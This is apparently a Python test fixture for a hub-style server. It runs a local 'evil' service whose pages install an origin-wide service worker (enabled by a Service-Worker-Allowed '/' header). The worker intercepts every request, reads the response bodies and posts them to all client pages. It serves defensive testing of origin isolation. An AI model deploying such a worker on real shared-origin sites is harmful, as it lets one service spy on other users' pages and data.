"""A server of somebody else's on the hub's origin, whose pages run what scripts they want."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

#: Passes every request on, and tells its pages what came back. ``/`` is the whole origin's.
WORKER = """
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil((async () => {
  await clients.claim();
  await registration.navigationPreload.enable();
})()));
addEventListener("fetch", (event) => {
  if (event.request.url.includes("/evil/")) return;
  const passed = fetch(event.request.clone());
  event.respondWith(passed.then((answer) => answer.clone()));
  event.waitUntil((async () => {
    const answers = [await passed, await event.preloadResponse];
    const read = await Promise.all(answers.map((answer) => answer?.clone().text()));
    const { mode, destination } = event.request;
    for (const client of await clients.matchAll({ includeUncontrolled: true })) {
      client.postMessage(["by a worker", event.request.url, mode, destination, ...read].join(" "));
    }
  })());
});
"""


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        is_worker = self.path.endswith("worker.js")
        body = (WORKER if is_worker else "<!doctype html><title>evil</title>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Service-Worker-Allowed", "/")
        # as ours: it parts a window only from pages of other origins
        self.send_header("Cross-Origin-Opener-Policy", "same-origin")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        """Be silent."""


@contextmanager
def listening() -> Iterator[str]:
    """Its address; a hub that has it as the service ``evil`` shows it at ``/services/evil/``."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
